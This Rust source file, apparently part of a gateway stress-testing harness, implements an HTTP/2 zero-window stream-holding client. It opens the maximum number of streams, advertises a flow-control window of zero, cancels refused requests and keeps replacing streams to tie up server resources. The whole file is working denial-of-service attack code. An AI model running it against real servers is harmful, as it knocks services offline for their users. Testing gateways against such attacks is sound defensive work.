//! An HTTP/2 client (RFC 9113) that gives answers no room: it has a window of 0 and as many streams
//! as allowed.
//!
//! It writes frame by frame, since any library would read what comes.

use std::io;
use std::sync::Arc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf, split};
use tokio::sync::Mutex;

use super::crowd::{Attacker, Pace};
use super::net::Stream;

/// As many streams as the gateway allows one connection.
const STREAMS: u32 = 100;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Frame types (§6) and flags.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

/// `HEADER_TABLE_SIZE` and `INITIAL_WINDOW_SIZE`, both 0 (§6.5.2).
const NOTHING: &[u8] = &[0, 1, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0];

const CANCEL: [u8; 4] = [0, 0, 0, 8];

type Writer = Arc<Mutex<WriteHalf<Box<dyn Stream>>>>;

struct Frame {
    kind: u8,
    flags: u8,
    stream: u32,
    payload: Vec<u8>,
}

/// Holds its streams open until the connection is cut. A stream that is refused or ends is
/// replaced.
pub(super) async fn hold(attacker: Arc<Attacker>, path: &'static str) -> io::Result<()> {
    let stream = attacker.target.open(attacker.source, "h2").await?;
    let (mut reader, mut writer) = split(stream);
    writer.write_all(PREFACE).await?;
    writer.write_all(&frame(SETTINGS, 0, 0, NOTHING)).await?;
    let request = request(path);
    let mut next = 1;
    for _ in 0..STREAMS {
        ask(&mut writer, &mut next, &request).await?;
    }
    writer.flush().await?;
    let writer = Arc::new(Mutex::new(writer));
    let next = Arc::new(Mutex::new(next));
    loop {
        let answer = read(&mut reader).await?;
        let is_over = match answer.kind {
            SETTINGS if answer.flags & ACK == 0 => {
                let mut writer = writer.lock().await;
                writer.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
                writer.flush().await?;
                false
            }
            GOAWAY => return Ok(()),
            RST_STREAM => true,
            HEADERS if answer.flags & END_STREAM != 0 => true,
            HEADERS if !is_ok(&answer.payload) => {
                let mut writer = writer.lock().await;
                let cancel = frame(RST_STREAM, 0, answer.stream, &CANCEL);
                writer.write_all(&cancel).await?;
                true
            }
            _ => answer.flags & END_STREAM != 0 && answer.kind == 0,
        };
        if is_over {
            let again = Again {
                writer: Arc::clone(&writer),
                next: Arc::clone(&next),
                pace: attacker.pace.clone(),
                request: request.clone(),
            };
            // If the connection is cut, this fails too, and the reader notices.
            tokio::spawn(again.ask());
        }
    }
}

/// Opens a new stream in place of one that is over.
struct Again {
    writer: Writer,
    next: Arc<Mutex<u32>>,
    pace: Pace,
    request: Vec<u8>,
}

impl Again {
    async fn ask(self) -> io::Result<()> {
        self.pace.turn().await;
        let mut next = self.next.lock().await;
        let mut writer = self.writer.lock().await;
        ask(&mut writer, &mut next, &self.request).await?;
        writer.flush().await
    }
}

async fn ask(
    writer: &mut WriteHalf<Box<dyn Stream>>,
    next: &mut u32,
    request: &[u8],
) -> io::Result<()> {
    let flags = END_STREAM | END_HEADERS;
    writer
        .write_all(&frame(HEADERS, flags, *next, request))
        .await?;
    *next += 2;
    Ok(())
}

/// A GET in HPACK (RFC 7541), with names from the static table and literal values.
fn request(path: &str) -> Vec<u8> {
    const GET: u8 = 0x82;
    const HTTPS: u8 = 0x87;
    const AUTHORITY: u8 = 0x01;
    const PATH: u8 = 0x04;
    let mut block = vec![GET, HTTPS];
    for (name, value) in [(AUTHORITY, "localhost"), (PATH, path)] {
        block.push(name);
        block.push(u8::try_from(value.len()).unwrap_or_default());
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// Whether a field block begins with `:status: 200`, after any updates of the table's size.
fn is_ok(block: &[u8]) -> bool {
    let first = block.iter().find(|byte| *byte & 0xe0 != 0x20);
    first == Some(&0x88)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    let [_, length @ ..] = length.to_be_bytes();
    let mut frame = Vec::from(length);
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

async fn read(reader: &mut ReadHalf<Box<dyn Stream>>) -> io::Result<Frame> {
    let mut head = [0; 9];
    reader.read_exact(&mut head).await?;
    let [a, b, c, kind, flags, stream @ ..] = head;
    let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
    reader.read_exact(&mut payload).await?;
    Ok(Frame {
        kind,
        flags,
        stream: u32::from_be_bytes(stream),
        payload,
    })
}

#[cfg(test)]
mod tests {
    use super::{END_HEADERS, HEADERS, frame, is_ok, request};

    #[test]
    fn a_frame_has_its_length_its_kind_and_its_stream() {
        let bytes = frame(HEADERS, END_HEADERS, 5, &[7, 8]);
        assert_eq!(bytes, [0, 0, 2, 1, 4, 0, 0, 0, 5, 7, 8]);
    }

    #[test]
    fn a_request_names_its_path() {
        let block = request("/a");
        assert_eq!(block[..2], [0x82, 0x87]);
        assert!(block.ends_with(&[0x04, 2, b'/', b'a']));
    }

    #[test]
    fn only_status_200_is_ok() {
        assert!(is_ok(&[0x88, 0x20]));
        assert!(is_ok(&[0x20, 0x88]));
        // 429, as a literal.
        assert!(!is_ok(&[0x08, 0x03, b'4', b'2', b'9']));
        assert!(!is_ok(&[]));
    }
}
